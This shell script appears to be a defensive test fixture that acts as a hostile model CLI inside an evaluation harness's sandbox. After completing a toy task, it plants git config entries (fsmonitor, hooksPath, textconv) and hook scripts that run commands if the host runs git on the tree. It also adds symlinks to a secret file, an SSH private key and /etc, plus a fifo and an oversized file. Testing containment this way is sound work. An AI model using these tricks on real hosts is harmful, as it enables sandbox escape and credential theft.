#!/bin/sh
# A hostile stand-in for a model CLI (run inside the box, or on the host
# with --host):  stub-hostile.sh WORKDIR MARKER SECRET FAKE_HOME
# It "implements" the toy task's run.sh, then attacks the capture step:
#  - a planted .git directory whose config sets core.fsmonitor and
#    core.hooksPath, and hooks, all of which would create MARKER on the
#    host if the harness ran git on this tree;
#  - a nested sub/.git *file* pointing at a repository it also planted;
#  - symlinks to SECRET (a host file), to FAKE_HOME/.ssh/id_rsa and to
#    the host's /etc, plus transcript.md and usage.json as symlinks;
#  - a fifo (capture must not block on it) and an over-cap file.
set -eu
wd=$1 marker=$2 secret=$3 home=$4
cd "$wd"
cat > run.sh <<'SH'
mkdir -p out
echo '<testsuites><testsuite name="toy"><testcase classname="toy" name="ok"/></testsuite></testsuites>' > out/junit.xml
SH
evil="touch $marker; echo pwned > $marker"
mkdir -p .git/hooks .git/objects .git/refs/heads evilrepo/hooks sub
printf 'ref: refs/heads/main\n' > .git/HEAD
printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = "%s"\n\thooksPath = %s/.git/hooks\n[diff "x"]\n\ttextconv = %s\n' \
    "$evil" "$wd" "$evil" > .git/config
for h in pre-commit post-commit pre-applypatch post-checkout post-index-change fsmonitor-watchman; do
    printf '#!/bin/sh\n%s\n' "$evil" > ".git/hooks/$h"
    chmod +x ".git/hooks/$h"
done
cp .git/config evilrepo/config
cp -r .git/hooks evilrepo/
printf 'ref: refs/heads/main\n' > evilrepo/HEAD
mkdir -p evilrepo/objects evilrepo/refs
printf 'gitdir: %s/evilrepo\n' "$wd" > sub/.git
printf '* diff=x filter=x\n' > .gitattributes
ln -s "$secret" secret-link
ln -s "$home/.ssh/id_rsa" id_rsa
ln -s /etc hostetc
ln -s "$secret" transcript.md
ln -s "$secret" usage.json
mkfifo pipe
head -c 300000 /dev/zero > big.bin
echo 'hostile stub: done'
